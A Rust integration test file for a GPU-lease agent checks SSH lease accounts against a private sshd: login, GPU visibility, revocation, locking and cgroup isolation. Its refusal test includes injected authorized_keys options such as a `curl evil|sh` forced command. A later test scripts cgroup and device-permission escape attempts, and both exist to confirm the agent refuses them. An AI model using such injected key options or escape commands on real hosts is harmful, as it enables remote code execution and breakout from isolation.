//! Lease accounts against a REAL sshd (issue #14, deliverable 3): the test starts Debian's
//! `/usr/sbin/sshd -D` on a free loopback port with its own config and host key (nothing of
//! the system's sshd is read or changed), grants a lease with GPU 1, logs in with `ssh` as
//! the lease's account, then revokes it and checks that logins fail (even with the key put
//! back: the account itself is locked) and that a process the account left running is gone.
//!
//! Needs root (it creates accounts; every one is deleted at the end, also when a test
//! fails) and openssh-server and openssh-client; without them the tests are skipped, saying
//! so, except under `CI`, where they fail: `.ci/run` installs them.

use cpn_agent::lease_access::{
    LeaseAccountError, LeaseAccounts, LeaseAccountsConfig, username_for,
};
use cpn_api_types::agent::{CgroupMode, Enforcement, LeaseAccessGrant};
use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Mutex;
use std::time::Duration;

#[path = "support/gpu_nodes.rs"]
mod gpu_nodes;
#[path = "support/sshd.rs"]
mod sshd;
use sshd::{SSH, SSH_KEYGEN, SSHD, Sshd, keygen, text};

/// useradd and userdel lock /etc/passwd and fail rather than wait: one test at a time.
static SERIAL: Mutex<()> = Mutex::new(());

/// Whether the test can run here; skips (saying why) or, under CI, fails.
fn ready(name: &str, needs_ssh: bool) -> bool {
    let mut missing = Vec::new();
    if !nix::unistd::geteuid().is_root() {
        missing.push("root (lease accounts are real accounts of this host)".to_string());
    }
    let tools: &[&str] = if needs_ssh {
        &[
            SSHD,
            SSH,
            SSH_KEYGEN,
            "/usr/sbin/useradd",
            "/usr/bin/setpriv",
        ]
    } else {
        &[SSH_KEYGEN, "/usr/sbin/useradd", "/usr/bin/setpriv"]
    };
    for t in tools {
        if !Path::new(t).is_file() {
            missing.push(format!(
                "{t} (apt-get install -y --no-install-recommends openssh-server openssh-client)"
            ));
        }
    }
    if missing.is_empty() {
        return true;
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "{name}: CI is set but this machine lacks {}: .ci/run must install openssh-server \
         and run the tests as root",
        missing.join(", ")
    );
    eprintln!("SKIPPED {name}: needs {}", missing.join(", "));
    false
}

/// A directory the accounts can pass through (a temp dir is 0700).
fn base_dir() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    fs::set_permissions(t.path(), fs::Permissions::from_mode(0o755)).unwrap();
    t
}

/// A lease id unique to this run, so parallel runs on one host never share an account.
fn lease_id(tag: &str) -> String {
    format!("t{}{tag}", std::process::id())
}

/// Deletes the accounts a test created (only those: their names carry this run's pid and
/// their comment names the lease), whatever the test's outcome.
struct Accounts(Vec<String>);

impl Drop for Accounts {
    fn drop(&mut self) {
        for name in &self.0 {
            let Some(user) = nix::unistd::User::from_name(name).ok().flatten() else {
                continue;
            };
            if !user.gecos.to_string_lossy().starts_with("cpn lease ")
                && !user.gecos.to_string_lossy().starts_with("cpn test ")
            {
                continue;
            }
            let uid = user.uid.as_raw().to_string();
            let _ = Command::new("/usr/bin/setpriv")
                .args([
                    &format!("--reuid={uid}"),
                    &format!("--regid={uid}"),
                    "--clear-groups",
                ])
                .args(["--", "/bin/kill", "-s", "KILL", "--", "-1"])
                .output();
            std::thread::sleep(Duration::from_millis(100));
            let _ = Command::new("/usr/sbin/userdel").arg(name).output();
        }
        // The leases' cgroups, in every hierarchy (a failed test never purged them).
        let mounts = fs::read_to_string("/proc/self/mounts").unwrap_or_default();
        for mount in mounts.lines().filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.len() > 2 && f[2].starts_with("cgroup")).then(|| PathBuf::from(f[1]))
        }) {
            for name in &self.0 {
                let _ = fs::remove_dir(mount.join("cpn").join(format!("lease@{name}")));
            }
        }
    }
}

fn config(base: &Path, port: u16) -> LeaseAccountsConfig {
    LeaseAccountsConfig {
        home_root: base.join("homes"),
        ssh_port: port,
        host_key: base.join("host_key.pub"),
        gpu_count: Some(4),
        emulated_gpus: true,
        ..LeaseAccountsConfig::new(base.join("state"), "127.0.0.1")
    }
}

/// The test's sshd, with `dir/host_key`, trusted in `dir/known_hosts`.
fn start_sshd(dir: &Path) -> Sshd {
    let sshd = Sshd::start(dir, &dir.join("host_key"));
    fs::write(
        dir.join("known_hosts"),
        format!(
            "[127.0.0.1]:{} {}",
            sshd.port,
            fs::read_to_string(dir.join("host_key.pub")).unwrap()
        ),
    )
    .unwrap();
    sshd
}

/// Whether a live (not zombie) process has this pid.
fn alive(pid: i32) -> bool {
    fs::read_to_string(format!("/proc/{pid}/status")).is_ok_and(|s| {
        !s.lines()
            .any(|l| l.starts_with("State:") && l.contains('Z'))
    })
}

#[test]
fn the_lease_account_logs_in_sees_only_its_gpu_and_is_locked_out_by_revoke() {
    if !ready("ssh_lease login/revoke", true) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let base = base_dir();
    let dir = base.path();
    let id = lease_id("a");
    let user = username_for(&id);
    let _cleanup = Accounts(vec![user.clone()]);
    keygen(&dir.join("host_key"));
    let public_key = keygen(&dir.join("user_key"));
    let sshd = start_sshd(dir);

    let mut accounts = LeaseAccounts::open(config(dir, sshd.port)).unwrap();
    let grant = LeaseAccessGrant {
        lease_id: id.clone(),
        public_key: public_key.clone(),
        gpus: vec![1],
        cpu_cores: 1.0,
        memory_gib: 1.0,
    };
    let access = accounts.grant(&grant).unwrap();
    assert_eq!(access.username, user);
    assert_eq!(
        (access.host.as_str(), access.port),
        ("127.0.0.1", sshd.port)
    );
    assert_eq!(access.gpus, vec![1]);
    assert_eq!(access.host_key_type, "ssh-ed25519");
    let printed = Command::new(SSH_KEYGEN)
        .args(["-l", "-E", "sha256", "-f"])
        .arg(dir.join("host_key.pub"))
        .output()
        .unwrap();
    let printed = String::from_utf8_lossy(&printed.stdout);
    assert_eq!(
        printed.split_whitespace().nth(1),
        Some(access.host_key_fingerprint.as_str())
    );
    // Emulated GPUs: said so, whatever the devices cgroup enforces for major 195.
    assert!(
        access
            .isolation
            .notes
            .iter()
            .any(|n| n.contains("emulated")),
        "{:?}",
        access.isolation
    );
    // The same grant again is the same access, not a second account.
    assert_eq!(accounts.grant(&grant).unwrap(), access);

    let home = dir.join("homes").join(&user);
    let keys = home.join(".ssh/authorized_keys");
    let meta = fs::metadata(&keys).unwrap();
    let owner = nix::unistd::User::from_name(&user).unwrap().unwrap();
    assert_eq!(
        std::os::unix::fs::MetadataExt::uid(&meta),
        owner.uid.as_raw()
    );
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);

    let out = sshd.ssh(
        dir,
        &user,
        "echo \"gpu=$CUDA_VISIBLE_DEVICES nv=$NVIDIA_VISIBLE_DEVICES\"; id -un",
    );
    assert!(
        out.status.success(),
        "login failed: {}\nsshd: {}",
        text(&out),
        sshd.log_text()
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        format!("gpu=1 nv=1\n{user}\n")
    );
    // A client that sends its own CUDA_VISIBLE_DEVICES, to an sshd that accepts it, still
    // gets the lease's: the forced command sets it after sshd applied the client's.
    let out = sshd.ssh_with(
        dir,
        &user,
        &["-o", "SetEnv=CUDA_VISIBLE_DEVICES=0,2,3"],
        "echo $CUDA_VISIBLE_DEVICES",
    );
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "1\n",
        "{}",
        text(&out)
    );

    // A process the account leaves behind.
    let out = sshd.ssh(
        dir,
        &user,
        "nohup sleep 1000 >/dev/null 2>&1 </dev/null & echo $!",
    );
    assert!(out.status.success(), "{}", text(&out));
    let pid: i32 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    assert!(alive(pid), "the left-behind sleep {pid} is not running");

    // Where the host has cgroups, the sweep puts it into the lease's share.
    if access.isolation.cgroup != CgroupMode::None {
        assert!(accounts.sweep() >= 1);
        let cgroup = fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
        assert!(cgroup.contains(&format!("lease@{user}")), "{cgroup}");
        assert_eq!(access.isolation.memory, Enforcement::Enforced);
    } else {
        assert_eq!(access.isolation.memory, Enforcement::Unavailable);
        eprintln!("note: no writable cgroup hierarchy here; the share is reported unavailable");
    }

    let revoked = accounts.revoke(&id).unwrap();
    assert!(
        revoked.locked && revoked.authorized_keys_removed && !revoked.already_revoked,
        "{revoked:?}"
    );
    assert!(revoked.processes_killed >= 1, "{revoked:?}");
    assert!(!alive(pid), "sleep {pid} survived the revocation");
    assert!(!keys.exists());

    let out = sshd.ssh(dir, &user, "id -un");
    assert!(
        !out.status.success(),
        "logged in after revoke: {}",
        text(&out)
    );
    assert!(!String::from_utf8_lossy(&out.stdout).contains(&user));
    // Even with a key put back, the account itself refuses logins: it is locked.
    fs::write(&keys, &public_key).unwrap();
    std::os::unix::fs::chown(&keys, Some(owner.uid.as_raw()), Some(owner.gid.as_raw())).unwrap();
    fs::set_permissions(&keys, fs::Permissions::from_mode(0o600)).unwrap();
    let out = sshd.ssh(dir, &user, "id -un");
    assert!(
        !out.status.success(),
        "a locked account logged in: {}",
        text(&out)
    );
    let log = sshd.log_text();
    assert!(
        log.contains("account is locked") || log.contains("has expired"),
        "sshd did not refuse for the lock: {log}"
    );

    // Idempotent, and final.
    let again = accounts.revoke(&id).unwrap();
    assert!(
        again.already_revoked && again.locked && again.processes_killed == 0,
        "{again:?}"
    );
    assert!(matches!(
        accounts.grant(&grant),
        Err(LeaseAccountError::Revoked { .. })
    ));

    // A restarted agent knows the account, and purging it deletes it.
    drop(accounts);
    let mut accounts = LeaseAccounts::open(config(dir, sshd.port)).unwrap();
    let listed = accounts.list();
    assert_eq!(listed.len(), 1);
    assert!(listed[0].username == user && listed[0].revoked_at.is_some());
    accounts.purge(&id).unwrap();
    assert!(nix::unistd::User::from_name(&user).unwrap().is_none());
    assert!(!home.exists());
    assert!(accounts.list().is_empty());
}

#[test]
fn a_restarted_agent_revokes_the_accounts_of_leases_that_ended() {
    if !ready("ssh_lease reconcile", false) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let base = base_dir();
    let dir = base.path();
    keygen(&dir.join("host_key"));
    let public_key = keygen(&dir.join("user_key"));
    let (live, ended) = (lease_id("live"), lease_id("ended"));
    let _cleanup = Accounts(vec![username_for(&live), username_for(&ended)]);
    let mut accounts = LeaseAccounts::open(config(dir, 22)).unwrap();
    for (id, gpus) in [(&live, vec![0]), (&ended, vec![2, 3])] {
        let access = accounts
            .grant(&LeaseAccessGrant {
                lease_id: id.clone(),
                public_key: public_key.clone(),
                gpus,
                ..LeaseAccessGrant::default()
            })
            .unwrap();
        assert_eq!(access.username, username_for(id));
    }
    drop(accounts);

    let mut accounts = LeaseAccounts::open(config(dir, 22)).unwrap();
    assert_eq!(accounts.list().len(), 2);
    let done = accounts.reconcile(&BTreeSet::from([live.clone()])).unwrap();
    assert_eq!(done.len(), 1);
    assert_eq!(done[0].lease_id, ended);
    assert!(done[0].locked && done[0].authorized_keys_removed);
    // Locked: the password field starts with '!' and the account expired on day 1.
    let locked = |id: &str| {
        let shadow = fs::read_to_string("/etc/shadow").unwrap();
        let name = username_for(id);
        let line = shadow
            .lines()
            .find(|l| l.split(':').next() == Some(name.as_str()))
            .unwrap_or_else(|| panic!("{name} is not in /etc/shadow"));
        let f: Vec<&str> = line.split(':').collect();
        f[1].starts_with('!') && f[7] == "1"
    };
    assert!(locked(&ended), "the ended lease's account is not locked");
    assert!(!locked(&live), "the live lease's account was locked");
    assert!(
        accounts
            .list()
            .iter()
            .any(|a| a.lease_id == live && a.revoked_at.is_none())
    );

    for id in [&live, &ended] {
        if accounts
            .list()
            .iter()
            .any(|a| &a.lease_id == id && a.revoked_at.is_none())
        {
            accounts.revoke(id).unwrap();
        }
        accounts.purge(id).unwrap();
    }
    assert!(
        nix::unistd::User::from_name(&username_for(&live))
            .unwrap()
            .is_none()
    );
}

#[test]
fn injected_keys_and_foreign_accounts_are_refused_and_nothing_is_created() {
    if !ready("ssh_lease refusals", false) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let base = base_dir();
    let dir = base.path();
    keygen(&dir.join("host_key"));
    let key = keygen(&dir.join("user_key"));
    let key = key.trim();
    let (id, foreign) = (lease_id("m"), lease_id("f"));
    let _cleanup = Accounts(vec![username_for(&id), username_for(&foreign)]);
    let mut accounts = LeaseAccounts::open(config(dir, 22)).unwrap();
    let grant = |public_key: String| LeaseAccessGrant {
        lease_id: id.clone(),
        public_key,
        gpus: vec![1],
        ..LeaseAccessGrant::default()
    };
    for bad in [
        format!("command=\"/bin/sh -c 'curl evil|sh'\" {key}"),
        format!("environment=\"CUDA_VISIBLE_DEVICES=0,1,2,3\" {key}"),
        format!("{key}\ncommand=\"/bin/sh\" {key}"),
        format!("{key}\n{key}"),
        format!("no-pty {key}"),
    ] {
        let err = accounts.grant(&grant(bad.clone())).unwrap_err();
        assert!(
            matches!(err, LeaseAccountError::InvalidPublicKey(_)),
            "{bad:?}: {err}"
        );
    }
    for gpus in [vec![4], vec![1, 1]] {
        let err = accounts
            .grant(&LeaseAccessGrant {
                gpus,
                ..grant(key.to_string())
            })
            .unwrap_err();
        assert!(matches!(err, LeaseAccountError::InvalidGpus(_)), "{err}");
    }
    assert!(
        nix::unistd::User::from_name(&username_for(&id))
            .unwrap()
            .is_none()
    );
    assert!(accounts.list().is_empty());

    // An account of the host that happens to have the lease's name is never taken over.
    let name = username_for(&foreign);
    let out = Command::new("/usr/sbin/useradd")
        .args(["--comment", "cpn test foreign", "--no-create-home", &name])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    let err = accounts
        .grant(&LeaseAccessGrant {
            lease_id: foreign.clone(),
            ..grant(key.to_string())
        })
        .unwrap_err();
    assert!(matches!(err, LeaseAccountError::NameTaken { .. }), "{err}");
    // Revoking a lease the agent never granted touches nothing.
    let entry = || {
        let shadow = fs::read_to_string("/etc/shadow").unwrap();
        let prefix = format!("{name}:");
        shadow
            .lines()
            .find(|l| l.starts_with(&prefix))
            .unwrap()
            .to_string()
    };
    let before = entry();
    let r = accounts.revoke(&foreign).unwrap();
    assert!(r.username.is_none() && !r.locked, "{r:?}");
    assert_eq!(entry(), before);
    assert!(accounts.list().is_empty());
}

#[test]
fn a_session_is_limited_from_its_first_command_and_opens_only_its_gpu() {
    if !ready("ssh_lease devices", true) {
        return;
    }
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    let base = base_dir();
    let dir = base.path();
    let id = lease_id("d");
    let user = username_for(&id);
    let _cleanup = Accounts(vec![user.clone()]);
    keygen(&dir.join("host_key"));
    keygen(&dir.join("user_key"));
    let sshd = start_sshd(dir);
    let [gpu0, gpu1] = gpu_nodes::make(&dir.join("dev"));

    let mut accounts = LeaseAccounts::open(config(dir, sshd.port)).unwrap();
    let access = accounts
        .grant(&LeaseAccessGrant {
            lease_id: id.clone(),
            public_key: fs::read_to_string(dir.join("user_key.pub")).unwrap(),
            gpus: vec![0],
            cpu_cores: 1.0,
            memory_gib: 1.0,
        })
        .unwrap();
    if let Err(why) = gpu_nodes::v1_devices_hierarchy() {
        assert_eq!(access.isolation.gpus, Enforcement::Simulated);
        eprintln!("SKIPPED ssh_lease devices: {why}");
        return;
    }
    assert_eq!(
        access.isolation.gpus,
        Enforcement::Enforced,
        "{:?}",
        access.isolation
    );
    let cgroups = accounts.list()[0].cgroups.clone();
    let devices = cgroups
        .iter()
        .find(|d| d.join("devices.allow").exists())
        .expect("a devices cgroup")
        .clone();

    // No sweep runs in this test: the session's first command already sees the lease's
    // cgroups, in every hierarchy, and its GPU device only. Then it tries to get out: move
    // itself to the hierarchy's root, allow itself GPU 1.
    let command = format!(
        "cat /proc/self/cgroup; cat {gpu0}; cat {gpu1}; \
         echo $$ > {root}/cgroup.procs; echo 'c 195:1 rwm' > {devices}/devices.allow; \
         cat {gpu1}; cat /proc/self/cgroup",
        gpu0 = gpu0.display(),
        gpu1 = gpu1.display(),
        root = devices.parent().unwrap().parent().unwrap().display(),
        devices = devices.display(),
    );
    let out = sshd.ssh(dir, &user, &command);
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout).to_string(),
        String::from_utf8_lossy(&out.stderr).to_string(),
    );
    let lines: Vec<&str> = stdout.lines().collect();
    let ours = format!("/cpn/lease@{user}");
    let joined = lines.iter().filter(|l| l.ends_with(&ours)).count();
    // Both reads of /proc/self/cgroup: before and after the escape attempts.
    assert_eq!(joined, 2 * cgroups.len(), "{}", text(&out));
    assert!(
        stderr.contains(&format!("{}: {}", gpu0.display(), gpu_nodes::ALLOWED)),
        "{}",
        text(&out)
    );
    assert_eq!(
        stderr
            .matches(&format!("{}: {}", gpu1.display(), gpu_nodes::DENIED))
            .count(),
        2,
        "{}",
        text(&out)
    );
    assert_eq!(
        stderr.matches("Permission denied").count(),
        2,
        "the escapes were not refused: {}",
        text(&out)
    );

    // A session that cannot join the lease's cgroups is refused, and nothing of it runs.
    std::os::unix::fs::chown(devices.join("cgroup.procs"), Some(0), None).unwrap();
    let marker = dir.join("homes").join(&user).join("ran");
    let out = sshd.ssh(dir, &user, &format!("touch {}", marker.display()));
    assert!(!out.status.success(), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("refused"),
        "{}",
        text(&out)
    );
    assert!(!marker.exists(), "the refused session ran its command");

    accounts.revoke(&id).unwrap();
    accounts.purge(&id).unwrap();
    assert!(cgroups.iter().all(|d| !d.exists()), "{cgroups:?}");
}
